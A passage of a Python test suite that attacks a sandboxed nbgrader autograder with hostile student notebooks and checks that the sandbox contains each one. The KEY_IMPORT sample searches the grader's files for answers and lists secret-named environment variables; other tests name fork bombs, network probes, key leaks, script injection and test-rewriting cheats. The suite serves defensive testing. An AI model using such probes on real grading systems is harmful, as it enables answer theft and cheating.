def q_kernel_cheats(ctx: Context, student: str) -> NotebookNode:
    nb = quiz_answered(ctx, student, 1)
    other = str(ctx.root / "submitted" / "q_solution" / QUIZ)
    code = KERNEL_CHEATS.format(other=other) + EXEC_NOTEBOOKS.format(patterns=["*.ipynb", "../*/quiz1/*.ipynb"])
    # before the slot cells: a grader that took the kernel's verdict would give full marks
    nb.cells.insert(next(i for i, c in enumerate(nb.cells) if is_test(c)), nbformat.v4.new_code_cell(code))
    return nb


KEY_IMPORT = '''\
import glob, os

from quizzes import graded

print("GRADED", [n for n in dir(graded) if not n.startswith("__")])
_package = os.path.dirname(graded.__file__)
for _path in glob.glob(os.path.join(_package, "**", "*"), recursive=True) + {paths!r}:
    try:
        with open(_path, "rb") as _f:
            _data = _f.read()
        if b"expected" in _data or b"answer" in _data:
            print("READ", _path, len(_data))
    except Exception as _e:
        print("DENIED", _path, type(_e).__name__)
try:
    from quizzes.graded.scoring import reference_answers
    for _bank in {banks!r}:
        try:
            for _k, _v in reference_answers(_bank, b"guess" * 8, {student!r}).items():
                answers[_k] = _v  # a computed value: the grader reads literals only
        except Exception as _e:
            print("DENIED", _bank, type(_e).__name__)
except ImportError as _e:
    print("DENIED", "reference_answers", type(_e).__name__)
print("ENV", sorted(k for k in os.environ if "SECRET" in k or "BANK" in k))
'''


def q_key_import(ctx: Context, student: str) -> NotebookNode:
    nb = copy.deepcopy(ctx.release)
    banks = [ctx.bank, str(BANK_FIXTURE)]
    paths = [os.path.join(ctx.bank, "course.secret"), os.path.join(ctx.bank, "quiz1.json"),
             str(BANK_FIXTURE / "quiz1.json")]
    nb.cells.append(nbformat.v4.new_code_cell(KEY_IMPORT.format(paths=paths, banks=banks, student=student)))
    return nb


QUIZ_STUDENTS: dict[str, Callable[[Context, str], NotebookNode]] = {
    "q_solution": q_solution, "q_release": q_release, "q_partial": q_partial, "q_skip_tags": q_skip_tags,
    "q_kernel_cheats": q_kernel_cheats, "q_key_import": q_key_import,
}


# --- Grading, in worker processes ------------------------------------------------------------------------------------

@dataclass
class Job:
    kind: str  # "lab", "sandbox" or "quiz"
    assignment: Assignment
    workdir: str
    students: tuple[str, ...]
    token: str
    key_path: str
    bank: str = ""  # the quiz's private bank (a copy of the fixture, with its secret and build record)


def load_config(assignment: Assignment, root: Path):
    config = PyFileConfigLoader(assignment.config.name, path=str(assignment.config.parent)).load_config()
    config.CourseDirectory.root = str(root)
    config.CourseDirectory.db_url = f"sqlite:///{root / 'gradebook.db'}"
    return config


def grade(job: Job) -> dict:
    """Run the whole pipeline for one job in its own course directory; return what the tests check."""
    try:
        return _grade(job)
    except Exception:
        return {"crash": traceback.format_exc()}


class Listener:
    """A TCP server on the grader's loopback: counts the connections a submission manages to make."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def survivors(token: str) -> list[str]:
    """Command lines of the processes, anywhere on this machine, that carry `token`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if token in cmdline and str(os.getpid()) != pid:
            found.append(f"{pid}: {cmdline[:200]}")
    return found


def _grade(job: Job) -> dict:
    from nbgrader.api import Gradebook, MissingEntry
    from nbgrader.apps import NbGraderAPI
    from nbgrader.plugins import CsvExportPlugin

    # nbgrader runs the `alembic` script by name; the venv need not be activated
    os.environ["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    os.environ["MINIALLOC_DEVICE"] = "sim"
    os.environ["MPLBACKEND"] = "Agg"
    a, root = job.assignment, Path(job.workdir)
    name = a.name
    (root / "source").mkdir(parents=True)
    shutil.copytree(a.notebook.parent, root / "source" / name)
    source = nbformat.read(root / "source" / name / f"{name}.ipynb", as_version=4)  # exactly what is graded
    config = load_config(a, root)
    config.ScanForKeys.key_files = [job.key_path] + ([os.path.join(job.bank, "course.secret")] if job.bank else [])
    if job.bank:
        config.QuizGrade.bank_dir = job.bank
    apis = {"normal": NbGraderAPI(config=config)}
    looping = copy.deepcopy(config)
    looping.Execute.timeout = HANG_TIMEOUT_S
    looping.GuardedExecute.interrupt_grace = HANG_GRACE_S
    apis["looping"] = NbGraderAPI(config=looping)
    unstripped = copy.deepcopy(config)
    unstripped.Autograde.autograde_preprocessors = [
        p for p in config.Autograde.autograde_preprocessors if getattr(p, "__name__", "") != "StripExecutionControl"]
    apis["unstripped"] = NbGraderAPI(config=unstripped)

    generated = apis["normal"].generate_assignment(name)
    out: dict = {"root": str(root), "generate": generated["success"], "points": points(source),
                 "log": {"generate": generated.get("log", "")[-4000:]}, "students": {}}
    if not generated["success"]:
        return out
    release = nbformat.read(root / "release" / name / f"{name}.ipynb", as_version=4)
    key_pem = Path(job.key_path).read_text()
    listener = Listener()
    ctx = Context(a, root, source, release, job.token, listener.port, job.key_path, key_pem, job.bank)
    students = {"lab": LAB_STUDENTS, "sandbox": SANDBOX_STUDENTS, "quiz": QUIZ_STUDENTS,
                "attacks": ATTACK_STUDENTS}[job.kind]
    for student in job.students:
        folder = root / "submitted" / student / name
        folder.mkdir(parents=True)
        nbformat.write(students[student](ctx, student), folder / f"{name}.ipynb")
        if job.kind == "sandbox" and student in FOLDERS:
            FOLDERS[student](ctx, folder)
    for student in job.students:
        api = apis["looping" if student in LOOPING else "unstripped" if student.endswith("_unstripped") else "normal"]
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        started = time.monotonic()
        result = api.autograde(name, student)
        out["students"][student] = {"success": result["success"], "seconds": time.monotonic() - started,
                                    "maxrss_growth_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before}
        out["log"][student] = (result.get("log") or "")[-6000:]
    listener.close()
    out["connections"] = listener.accepted
    time.sleep(4)  # what a surviving background process would need to strike (it waits 2 s)
    out["survivors"] = survivors(job.token)
    feedback = apis["normal"].generate_feedback(name)
    out["feedback"] = feedback["success"]
    out["log"]["feedback"] = (feedback.get("log") or "")[-4000:]
    with Gradebook(config.CourseDirectory.db_url) as gb:
        for student, record in out["students"].items():
            record["autograded"] = (root / "autograded" / student / name).exists()
            try:
                submission = gb.find_submission(name, student)
            except MissingEntry:  # refused before nbgrader recorded it
                record.update(score=None, max_score=None, cells={}, needs_review=False)
                continue
            notebook = gb.find_submission_notebook(name, name, student)
            record.update(score=submission.score, max_score=submission.max_score,
                          cells={g.name: g.score for g in notebook.grades},
                          needs_review=any(g.needs_manual_grade for g in notebook.grades))
        CsvExportPlugin(to=str(root / "grades.csv")).export(gb)
    return out


@dataclass
class Results:
    by_job: dict[str, dict] = field(default_factory=dict)
    key_path: str = ""
    bank: str = ""

    def get(self, job: str) -> dict:
        out = self.by_job[job]
        assert "crash" not in out, out["crash"]
        assert out["generate"], out["log"]["generate"]
        return out

    def student(self, job: str, student: str) -> dict:
        return self.get(job)["students"][student]

    def score(self, job: str, student: str) -> tuple[float, float]:
        record = self.student(job, student)
        return record["score"], record["max_score"]

    def source(self, job: str) -> NotebookNode:
        """The source notebook the job graded (its copy: the repository's may have changed since)."""
        name = self.assignment(job)
        return nbformat.read(Path(self.get(job)["root"]) / "source" / name / f"{name}.ipynb", as_version=4)

    def total(self, job: str) -> float:
        return sum(self.get(job)["points"].values())

    def why(self, job: str, student: str) -> str:
        record = {k: v for k, v in self.student(job, student).items()}
        log = self.get(job)["log"].get(student, "")
        return f"{student}: {record}\n--- autograde log (end) ---\n{log[-3000:]}"

    def autograded(self, job: str, student: str) -> NotebookNode:
        out = self.get(job)
        name = self.assignment(job)
        return nbformat.read(Path(out["root"]) / "autograded" / student / name / f"{name}.ipynb", as_version=4)

    def feedback(self, job: str, student: str) -> Path:
        name = self.assignment(job)
        return Path(self.get(job)["root"]) / "feedback" / student / name / f"{name}.html"

    @staticmethod
    def assignment(job: str) -> str:
        return job.removeprefix("sandbox:").removeprefix("attacks:")


def make_key(folder: Path) -> Path:
    """An issuer-like Ed25519 key (PKCS#8 PEM, unencrypted), as keygen writes one."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    folder.mkdir(mode=0o700)
    path = folder / "issuer-ed25519.pem"
    path.write_bytes(Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    path.chmod(0o600)
    return path


def make_quiz(tmp: Path) -> tuple[Assignment, str]:
    """quiz1 built from a copy of the sample private bank with a fresh course secret: (assignment, bank folder)."""
    from quizzes.graded.build import build
    from quizzes.graded.secret import default_secret_path, load_secret, new_secret

    bank = tmp / "private_bank"
    shutil.copytree(BANK_FIXTURE, bank)
    new_secret(default_secret_path(bank))
    build(bank, load_secret(default_secret_path(bank)), quiz=QUIZ, out_dir=tmp / "quiz_source", progress=False)
    return Assignment(QUIZ, tmp / "quiz_source", QUIZ_CONFIG), str(bank)


@pytest.fixture(scope="module")
def results(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Results]:
    assert shutil.which("bwrap"), "bubblewrap is not installed (apt-get install bubblewrap; .ci/run does it)"
    tmp = tmp_path_factory.mktemp("hostile")
    key = make_key(tmp / "issuer")
    quiz, bank = make_quiz(tmp)
    token = f"hostile-{uuid.uuid4().hex}"
    # the sandbox job first: it then starts in a fresh worker, whose peak memory print_200mb is measured against
    jobs = {SANDBOX: Job("sandbox", LAB[LABS[0]], str(tmp / "sandbox"), tuple(SANDBOX_STUDENTS), token, str(key))}
    jobs.update({lab: Job("lab", LAB[lab], str(tmp / lab), tuple(LAB_STUDENTS), token, str(key)) for lab in LABS})
    jobs[QUIZ] = Job("quiz", quiz, str(tmp / QUIZ), tuple(QUIZ_STUDENTS), token, str(key), bank)
    workers = max(1, min(len(jobs), os.cpu_count() or 1, 4))
    # spawn, not fork: the workers run kernels and event loops of their own
    with ProcessPoolExecutor(max_workers=workers, mp_context=get_context("spawn")) as pool:
        done = dict(zip(jobs, pool.map(grade, jobs.values()), strict=True))
    yield Results(done, str(key), bank)


# --- The configuration ------------------------------------------------------------------------------------------------

def autograde_names(config) -> list[str]:
    return [getattr(p, "__name__", str(p)).rsplit(".", 1)[-1] for p in config.Autograde.autograde_preprocessors]


def test_every_lab_is_covered():
    assert len(LABS) >= 4


def test_repo_config_installs_the_grader_and_the_sandbox():
    config = PyFileConfigLoader(REPO_CONFIG.name, path=str(ROOT)).load_config()
    assert config.Execute.timeout == 30 and config.Execute.interrupt_on_timeout
    assert config.GuardedExecute.notebook_timeout > config.Execute.timeout
    assert 0 < config.GuardedExecute.max_output_chars <= 1_000_000
    assert config.GuardedExecute.sandbox is True
    names = autograde_names(config)
    assert names.index("StripExecutionControl") + 1 == names.index("GuardedExecute")
    assert names.index("ErrorsFailTests") + 1 == names.index("SaveAutoGrades") < names.index("FlagForReview")
    sanitize = [getattr(p, "__name__", str(p)) for p in config.Autograde.sanitize_preprocessors]
    assert "RestoringOverwriteCells" in sanitize and "OverwriteCells" not in sanitize
    feedback = [getattr(p, "__name__", str(p)).rsplit(".", 1)[-1] for p in config.GenerateFeedback.preprocessors]
    assert {"ClearHiddenTests", "HideTestTracebacks", "ScanForKeys"} <= set(feedback)


def test_quiz_config_scores_in_the_grader():
    config = PyFileConfigLoader(QUIZ_CONFIG.name, path=str(QUIZ_CONFIG.parent)).load_config()
    names = autograde_names(config)
    assert names.index("GuardedExecute") < names.index("QuizGrade") < names.index("SaveAutoGrades")
    assert names.index("StripExecutionControl") < names.index("GuardedExecute")
    assert "quizzes" in config.SandboxKernelManager.packages


def test_every_lab_needs_no_hardening():
    """Hidden tests that look up a locked helper by its public name can be fooled by rebinding it."""
    for lab in LABS:
        assert not harden_tool.exposed(LAB[lab].source()), (lab, "run python tools/harden.py on it")


# --- Labs ---------------------------------------------------------------------------------------------------------

def lab_params(students: tuple[str, ...]):
    return [pytest.param(lab, s, id=f"{lab}-{s}") for lab in LABS for s in students]


@pytest.mark.parametrize("lab", LABS)
def test_pipeline_ran_for_everyone(results: Results, lab: str):
    out = results.get(lab)
    assert set(out["students"]) == set(LAB_STUDENTS)
    assert out["feedback"], out["log"]["feedback"]
    with open(Path(out["root"]) / "grades.csv", newline="") as f:
        rows = [r for r in csv.DictReader(f) if r["assignment"] == lab]
    assert {r["student_id"] for r in rows} == set(LAB_STUDENTS)


@pytest.mark.parametrize("lab,student", lab_params(("solution",)))
def test_solution_scores_full_marks(results: Results, lab: str, student: str):
    got, max_score = results.score(lab, student)
    assert max_score == results.total(lab) > 0
    assert got == max_score, results.why(lab, student)
    graded = results.autograded(lab, student)
    assert not [meta(c).get("grade_id") for c in graded.cells if is_test(c) and errors(c)]


@pytest.mark.parametrize("lab,student", lab_params(("release", "sys_exit", "showtraceback", "displayhook")))
def test_unanswered_and_silenced_submissions_score_zero(results: Results, lab: str, student: str):
    assert results.student(lab, student)["success"], results.why(lab, student)
    assert results.score(lab, student) == (0, results.total(lab)), results.why(lab, student)


@pytest.mark.parametrize("lab,student", lab_params(("partial",)))
def test_partial_scores_its_task(results: Results, lab: str, student: str):
    source = results.source(lab)
    task = first_group(source)
    expected = sum(p for gid, p in points(source).items() if group(gid) == task)
    assert 0 < expected < results.total(lab)
    assert results.score(lab, student)[0] == expected, results.why(lab, student)


@pytest.mark.parametrize("lab,student", lab_params(("hang",)))
def test_endless_loop_times_out_and_later_cells_are_graded(results: Results, lab: str, student: str):
    assert results.student(lab, student)["success"], results.why(lab, student)
    assert results.score(lab, student) == (results.total(lab), results.total(lab)), results.why(lab, student)
    assert "CellTimeoutError" in errors(first_answer(results.autograded(lab, student)))


@pytest.mark.parametrize("lab,student", lab_params(("hang_sigint",)))
def test_loop_that_ignores_the_interrupt_is_killed(results: Results, lab: str, student: str):
    assert results.student(lab, student)["success"], results.why(lab, student)
    assert results.score(lab, student)[0] == 0
    graded = results.autograded(lab, student)
    hung = first_answer(graded)
    assert "CellTimeoutError" in errors(hung), hung.outputs
    later = graded.cells[graded.cells.index(hung) + 1:]
    assert all("NotRun" in errors(c) for c in later if is_test(c))


@pytest.mark.parametrize("lab,student", lab_params(("os_exit", "kill")))
def test_dead_kernel_gains_nothing_and_is_graded(results: Results, lab: str, student: str):
    assert results.student(lab, student)["success"], results.why(lab, student)
    graded = results.autograded(lab, student)
    dead = last_answer(graded) if student == "os_exit" else first_answer(graded)
    assert "DeadKernelError" in errors(dead), dead.outputs
    assert results.score(lab, student)[0] == points_before(graded, dead), results.why(lab, student)
    later = graded.cells[graded.cells.index(dead) + 1:]
    assert [c for c in later if is_test(c)] and all("NotRun" in errors(c) for c in later if is_test(c))


@pytest.mark.parametrize("lab,student", lab_params(("flood",)))
def test_megabytes_of_output_are_capped_and_graded_normally(results: Results, lab: str, student: str):
    assert results.score(lab, student) == (results.total(lab), results.total(lab)), results.why(lab, student)
    graded = results.autograded(lab, student)
    text = "".join(o.get("text", "") for o in first_answer(graded).outputs if o.output_type == "stream")
    assert "output truncated by the grader" in text
    assert len(text) < 200_000, len(text)  # the config keeps 100 000 characters per cell
    path = Path(results.get(lab)["root"]) / "autograded" / student / lab / f"{lab}.ipynb"
    assert path.stat().st_size < 1_000_000, path.stat().st_size


@pytest.mark.parametrize("lab,student", lab_params(("tamper",)))
def test_tampered_tests_are_restored_and_gain_nothing(results: Results, lab: str, student: str):
    record = results.student(lab, student)
    assert record["success"], results.why(lab, student)
    assert results.score(lab, student) == (0, results.total(lab)), results.why(lab, student)
    assert set(record["cells"]) == set(points(results.source(lab))), record["cells"]
    graded = results.autograded(lab, student)
    source = {meta(c)["grade_id"]: c for c in results.source(lab).cells if is_test(c)}
    for grade_id, original in source.items():
        copies = [c for c in graded.cells if meta(c).get("grade_id") == grade_id]
        assert len(copies) == 1, (grade_id, len(copies))
        assert copies[0].cell_type == "code" and copies[0].source.endswith(original.source), grade_id
        assert errors(copies[0]), f"{grade_id} was not run"  # the release cannot pass a test
    assert [meta(c)["grade_id"] for c in graded.cells if meta(c).get("grade_id") in source] == list(source)


@pytest.mark.parametrize("lab,student", lab_params(("rebind",)))
def test_rebinding_locked_names_gains_nothing(results: Results, lab: str, student: str):
    assert results.score(lab, student)[0] == 0, results.why(lab, student)


@pytest.mark.parametrize("lab,student", lab_params(("skip_tags", "skip_tags_unstripped")))
def test_execution_control_tags_gain_nothing(results: Results, lab: str, student: str):
    assert results.student(lab, student)["success"], results.why(lab, student)
    assert results.score(lab, student) == (0, results.total(lab)), results.why(lab, student)
    graded = results.autograded(lab, student)
    tests = [c for c in graded.cells if is_test(c)]
    assert tests and all(errors(c) for c in tests)
    if student == "skip_tags":  # stripped: every test cell ran and failed on its own
        assert not any(c.metadata.get("tags") for c in graded.cells)
        assert graded.metadata.get("grader_stripped")
        assert not any("NotRun" in errors(c) for c in tests)
    elif scored_by_grader(lab):  # the kernel skipped them (NotRun there); the grader's own checks scored them
        assert set(graded.metadata["grader_kernel_tests"].values()) == {"failed (NotRun)"}, graded.metadata
    else:  # not stripped: nbclient skipped them, and a test cell that did not run fails
        assert all(errors(c) == ["NotRun"] for c in tests), [errors(c) for c in tests]


@pytest.mark.parametrize("lab,student", lab_params(REVIEWED))
def test_code_that_reaches_into_the_kernel_is_flagged_for_review(results: Results, lab: str, student: str):
    assert results.student(lab, student)["needs_review"], results.why(lab, student)
    assert results.autograded(lab, student).metadata.get("grader_review")


@pytest.mark.parametrize("lab,student", lab_params(NOT_REVIEWED))
def test_ordinary_submissions_are_not_flagged(results: Results, lab: str, student: str):
    """Flagged for nothing but what they are: answers pasted from the public solution (the labs' source notebooks
    are in the public repository), as every classmate's in this job, which the copy check must flag; a submission
    with no answer (the release's skeleton) is not flagged."""
    reasons = results.autograded(lab, student).metadata.get("grader_review", [])
    others = [r for r in reasons if "alike the public solution" not in r and "alike student" not in r]
    assert not others, (others, results.why(lab, student))
    if student == "release":
        assert not results.student(lab, student)["needs_review"], results.why(lab, student)


@pytest.mark.parametrize("lab", LABS)
def test_feedback_holds_no_hidden_test(results: Results, lab: str):
    hidden = hidden_only_lines(results.source(lab))
    for student in LAB_STUDENTS:
        path = results.feedback(lab, student)
        assert path.is_file(), results.why(lab, student)
        text = html_text(path)
        assert "BEGIN HIDDEN TESTS" not in text
        assert not [line for line in hidden if line in text], (student, [line for line in hidden if line in text])


# --- The sandbox ----------------------------------------------------------------------------------------------------

def lines_of(results: Results, student: str) -> list[str]:
    cell = first_answer(results.autograded(SANDBOX, student))
    return [line for o in cell.outputs if o.output_type == "stream" for line in o.get("text", "").splitlines()]


def test_sandbox_job_ran(results: Results):
    out = results.get(SANDBOX)
    assert set(out["students"]) == set(SANDBOX_STUDENTS)
    graded = {s: r for s, r in out["students"].items() if s not in REFUSED}
    assert all(record["success"] for record in graded.values()), graded
    assert results.score(SANDBOX, "solution") == (results.total(SANDBOX), results.total(SANDBOX))


def test_nothing_outside_the_sandbox_can_be_read(results: Results):
    assert results.score(SANDBOX, "snoop")[0] == 0
    lines = lines_of(results, "snoop")
    targets = Context(LAB[LABS[0]], Path("course"), NotebookNode(), NotebookNode(), "", key_path="key").targets()
    # the grader's home exists in the sandbox only as the way to a bound tree (a Python under ~/.pyenv, say)
    from grading.sandbox import Policy

    home = Path(os.path.expanduser("~"))
    on_the_way = sorted({t.relative_to(home).parts[0] for t in Policy.default().read_only if home in t.parents})
    allowed = {f"READ grader's home {on_the_way!r}"}
    assert not [line for line in lines if line.startswith("READ") and line not in allowed], lines
    denied = [line.split(" ", 1)[1].rsplit(" ", 1)[0] for line in lines if line.startswith("DENIED")]
    assert sorted(denied + ["grader's home"] * bool(allowed & set(lines))) == sorted(targets), lines
    # the kernelspec it asked for is gone (nbgrader's OverwriteKernelspec, then StripExecutionControl)
    assert results.autograded(SANDBOX, "snoop").metadata["kernelspec"]["display_name"] != "unsandboxed, please"


def test_source_notebook_cannot_be_read_and_run(results: Results):
    assert results.score(SANDBOX, "exec_source")[0] == 0, results.why(SANDBOX, "exec_source")
    assert "FOUND []" in lines_of(results, "exec_source")


def test_another_students_folder_is_out_of_reach(results: Results):
    assert results.score(SANDBOX, "copy_other")[0] == 0, results.why(SANDBOX, "copy_other")
    lines = lines_of(results, "copy_other")
    assert not [line for line in lines if line.startswith("CHDIR")], lines
    assert "FOUND []" in lines or "FOUND ['" + LABS[0] + ".ipynb']" in lines  # at most its own notebook


def test_background_process_dies_with_the_kernel(results: Results):
    assert results.get(SANDBOX)["survivors"] == []
    assert "started" in lines_of(results, "background")
    # the gradebook was read after the background process's time to strike: its scores are the grader's
    assert results.score(SANDBOX, "background") == (0, results.total(SANDBOX))
    assert results.score(SANDBOX, "solution")[0] == results.total(SANDBOX)


def test_fork_bomb_is_contained(results: Results):
    assert results.student(SANDBOX, "fork_bomb")["success"], results.why(SANDBOX, "fork_bomb")
    assert results.score(SANDBOX, "fork_bomb")[0] == 0
    assert results.get(SANDBOX)["survivors"] == []


def test_a_4gib_allocation_fails_in_the_kernel(results: Results):
    assert results.score(SANDBOX, "alloc_4g") == (results.total(SANDBOX), results.total(SANDBOX))
    assert "MemoryError" in errors(first_answer(results.autograded(SANDBOX, "alloc_4g")))


def test_a_200mb_print_never_reaches_the_grader_whole(results: Results):
    record = results.student(SANDBOX, "print_200mb")
    assert results.score(SANDBOX, "print_200mb") == (results.total(SANDBOX), results.total(SANDBOX)), results.why(
        SANDBOX, "print_200mb")
    assert "OutputTooLarge" in errors(first_answer(results.autograded(SANDBOX, "print_200mb")))
    assert record["maxrss_growth_kb"] < MAXRSS_GROWTH_KB, record


def test_the_network_is_out_of_reach(results: Results):
    assert results.get(SANDBOX)["connections"] == 0
    lines = lines_of(results, "network")
    assert not [line for line in lines if line.startswith("CONNECTED")], lines
    assert len([line for line in lines if line.startswith("DENIED")]) == 3, lines


def key_needles(path: str) -> list[str]:
    return [line for line in Path(path).read_text().splitlines() if line and "-----" not in line]


def test_feedback_holds_no_private_key(results: Results):
    needles = key_needles(results.key_path)
    assert needles
    for job in (SANDBOX, *LABS, QUIZ):
        students = results.get(job)["students"]
        for student in students:
            if student in REFUSED:
                continue
            text = html_text(results.feedback(job, student))
            assert "PRIVATE KEY-----" not in text, (job, student)
            assert not [n for n in needles if n in text], (job, student)
    # the pasted key was there to find: the autograded notebook (the instructor's copy) still has it
    assert needles[0] in json.dumps(results.autograded(SANDBOX, "key_print"))
    assert "removed by the grader" in html_text(results.feedback(SANDBOX, "key_print"))


@pytest.mark.parametrize("student", REFUSED)
def test_links_and_special_files_are_refused_unread(results: Results, student: str):
    """A link (a file or the notebook to the key, a file or the whole folder to the source), a hard link to the
    key or a FIFO in the submission: refused for that student, by name, before anything is read or executed."""
    record = results.student(SANDBOX, student)
    assert not record["success"] and record["score"] is None, record
    assert not record["autograded"], record
    log = results.get(SANDBOX)["log"][student]
    assert "refused, nothing in it was read or graded" in log, log[-2000:]
    what = {"links": "is a symbolic link", "hardlink": "hard links", "link_notebook": "is a symbolic link",
            "link_folder": "is not a folder", "fifo": "is not a regular file"}[student]
    assert what in log, log[-2000:]
    # nothing of the key reached the log (nbformat's NotJSONError quoted a linked key's first line)
    assert not [n for n in key_needles(results.key_path) if n in log]
    assert "PRIVATE KEY" not in log
    # the others were graded all the same
    assert results.score(SANDBOX, "solution")[0] == results.total(SANDBOX)


def test_no_active_content_in_the_graded_notebook_or_the_feedback(results: Results):
    assert results.score(SANDBOX, "inject") == (results.total(SANDBOX), results.total(SANDBOX)), results.why(
        SANDBOX, "inject")
    nb = results.autograded(SANDBOX, "inject")
    kinds = {k for c in nb.cells for o in c.get("outputs", []) for k in o.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg"}, kinds
    assert nb.metadata.get("grader_inert")
    shown = "\n".join(str(v) for c in nb.cells for o in c.get("outputs", []) for v in o.get("data", {}).values())
    assert "removed this output" in shown
    page = results.feedback(SANDBOX, "inject").read_text(encoding="utf-8")
    assert "alert(" in html.unescape(page)  # the attack is there to see, as text
    assert not ACTIVE.findall(page), ACTIVE.findall(page)


def test_test_cell_output_never_reaches_feedback(results: Results):
    """Student functions that print the calling test cell's source (linecache): the autograded notebook has the
    hidden tests in the test cells' output; the feedback shows the test cells' pass/fail only."""
    assert results.score(SANDBOX, "leak_tests")[0] == results.total(SANDBOX), results.why(SANDBOX, "leak_tests")
    hidden = hidden_only_lines(results.source(SANDBOX))
    graded = "\n".join(text_of(c) for c in results.autograded(SANDBOX, "leak_tests").cells)
    if not scored_by_grader(LABS[0]):  # else the test cells' outputs are the grader's verdicts
        assert "LEAK" in graded and [line for line in hidden if line in graded]  # the attack worked in the kernel
    later = text_of(results.autograded(SANDBOX, "leak_tests").cells[-1])
    assert [line for line in hidden if line in later]  # and a cell of its own, after the tests, printed them too
    text = html_text(results.feedback(SANDBOX, "leak_tests"))
    assert not [line for line in hidden if line in text]
    assert "does not show what a test cell printed" in text
    assert "does not show in feedback what the notebook printed" in text  # the cell of its own, withheld


def scored_by_grader(lab: str) -> bool:
    from grading import labspecs

    return labspecs.spec_for(lab) is not None


@pytest.mark.parametrize("student", sorted(HONEST))
def test_published_lab_cheats_score_only_their_honest_answers(results: Results, student: str):
    """Issue 22's cheats: the shell found through gc rewrites later test cells to `pass`; a function reads the
    calling test's source from linecache; minialloc's allocator source exec'd under another file name. Each also
    answers some tasks honestly. The grader runs the answers again in a fresh sandbox on its own inputs: exactly
    the honest tasks' points, and the submission is flagged for review."""
    assert scored_by_grader(LABS[0])
    record = results.student(SANDBOX, student)
    expected = {gid: p if group(gid) in HONEST[student] else 0.0 for gid, p in points(results.source(SANDBOX)).items()}
    assert 0 < sum(expected.values()) < results.total(SANDBOX)
    assert record["cells"] == expected, results.why(SANDBOX, student)
    assert record["needs_review"], results.why(SANDBOX, student)
    graded = results.autograded(SANDBOX, student)
    assert graded.metadata.get("grader_review"), graded.metadata
    kernel = graded.metadata["grader_kernel_tests"]
    if student == "gc_rewrite":  # the attack worked in the kernel: every test cell passed there
        assert set(kernel.values()) == {"passed"}, kernel
    # exec_allocator's kernel verdicts are not asserted: the exec'd allocator inherits its public calls from
    # minialloc's own files (minialloc/memory_api.py), which the in-kernel delegation guard recognises, so whether
    # the cheat passes in the kernel depends on that second line, not on the grader's, which scores it above


# --- The graded quiz ------------------------------------------------------------------------------------------------

def quiz_points(results: Results, student: str, how_many: int | None = None) -> float:
    return sum(p for _, _, p in quiz_answers(results.bank, student)[:how_many])


def test_quiz_pipeline_ran(results: Results):
    out = results.get(QUIZ)
    assert set(out["students"]) == set(QUIZ_STUDENTS)
    assert all(r["success"] for r in out["students"].values()), {s: results.why(QUIZ, s) for s in out["students"]}
    assert out["feedback"], out["log"]["feedback"]


def test_quiz_solution_scores_full_marks(results: Results):
    got, max_score = results.score(QUIZ, "q_solution")
    assert max_score == quiz_points(results, "q_solution") == results.total(QUIZ) > 0
    assert got == max_score, results.why(QUIZ, "q_solution")


@pytest.mark.parametrize("student", ["q_release", "q_skip_tags", "q_key_import"])
def test_quiz_without_honest_answers_scores_zero(results: Results, student: str):
    assert results.score(QUIZ, student) == (0, results.total(QUIZ)), results.why(QUIZ, student)


@pytest.mark.parametrize("student", ["q_partial", "q_kernel_cheats"])
def test_quiz_scores_exactly_the_honest_answers(results: Results, student: str):
    expected = quiz_points(results, student, 1)
    assert 0 < expected < results.total(QUIZ)
    assert results.score(QUIZ, student)[0] == expected, results.why(QUIZ, student)


def test_quiz_kernel_cheats_reached_nothing(results: Results):
    text = "\n".join(text_of(c) for c in results.autograded(QUIZ, "q_kernel_cheats").cells)
    assert "CHDIR" not in text and "FOUND ['quiz1.ipynb']" in text  # only its own notebook


def test_quiz_key_import_found_no_key(results: Results):
    nb = results.autograded(QUIZ, "q_key_import")
    text = "\n".join(text_of(c) for c in nb.cells)
    secret = (Path(results.bank) / "course.secret").read_text().strip()
    assert secret not in text
    assert "GRADED" in text and "ENV []" in text, text[-3000:]
    private = (results.bank, str(BANK_FIXTURE))
    lines = text.splitlines()
    assert not [line for line in lines if line.startswith("READ") and any(p in line for p in private)], lines
    assert len([line for line in lines if line.startswith("DENIED") and any(p in line for p in private)]) == 5, lines
    feedback = html_text(results.feedback(QUIZ, "q_key_import"))
    assert secret not in feedback


def test_quiz_feedback_reveals_no_answer(results: Results):
    """The feedback says right or wrong, never the answer: no slot line of a wrong answer names a letter."""
    text = html_text(results.feedback(QUIZ, "q_partial"))
    first, *rest = quiz_answers(results.bank, "q_partial")
    assert f"{first[0]}: right" in text
    for key, _, _ in rest:
        assert re.search(rf"{key}: (wrong|0 points|\d+ of \d+ parts right)", text) or key not in text


# --- The last round's attacks on the lab grader (issue 32), one job of their own on the first lab ---------------------
# Run alone with `pytest tests/test_nbgrader_hostile.py -k attack`: the fixture below grades only these students.
# - solution: the instructor's (public) solution: full marks; its markdown cells (the lab's introduction) are shown
#   as the instructor wrote them, in the autograded notebook and the feedback.
# - rounded_oracle: task 1 answered by reading the probe's inputs from the caller's frames (the grader once passed
#   round_size's answers there): task 1 scores 0, and so do tasks 3 and 4 (they use round_size); task 2 its points.
# - forged_reports: tasks 1 and 2 answered, then the task 2 cell turns off the alarm, ignores SIGINT and for 400 s
#   writes forged reports (the old "start", failures of 300 characters for every step number) on every pipe it holds:
#   the grader ends it on its own clock (autograde well under 400 s), task 1 keeps its points, nothing after scores,
